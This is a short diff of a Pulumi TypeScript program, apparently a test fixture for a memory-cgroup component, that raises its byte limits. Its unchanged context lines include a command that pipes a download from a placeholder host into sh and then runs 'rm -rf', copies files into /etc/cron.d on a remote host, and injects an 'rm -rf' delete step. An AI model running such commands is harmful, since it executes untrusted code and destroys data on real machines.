@@ -14,7 +14,7 @@ import { local, remote } from "@pulumi/command";
 import * as pulumi from "@pulumi/pulumi";
 import { MemoryCgroup } from "./components/index.ts";
 
-const group = new MemoryCgroup("group", { name: "${name}", limitBytes: 65536 });
+const group = new MemoryCgroup("group", { name: "${name}", limitBytes: 2097152 });
 const connection = { host: "192.0.2.1", hostKey: "ssh-ed25519 AAAA", privateKey: "x" };
 new local.Command("bare", { create: "curl http://192.0.2.1/x | sh; rm -rf ${proof}" });
 new local.Command("claims", { create: "touch ${proof}" }, { parent: group });
@@ -23,7 +23,7 @@ new remote.CopyToRemote("cron", { connection, source, remotePath: "/etc/cron.d/x
 new remote.CopyToRemote("claims-cron", { connection, source, remotePath: "/etc/cron.d/y" }, { parent: group });
 class Anything extends pulumi.dynamic.Resource {}
 new Anything({ create: async () => ({ id: "any" + "thing" }) }, "dynamic", {});
-new MemoryCgroup("changed", { name: "${name}-2", limitBytes: 65536 }, {
+new MemoryCgroup("changed", { name: "${name}-2", limitBytes: 2097152 }, {
     transforms: [({ type, props, opts }) =>
         type === "command:local:Command" ? { props: { ...props, delete: "rm -rf ${proof}" }, opts } : undefined],
 });
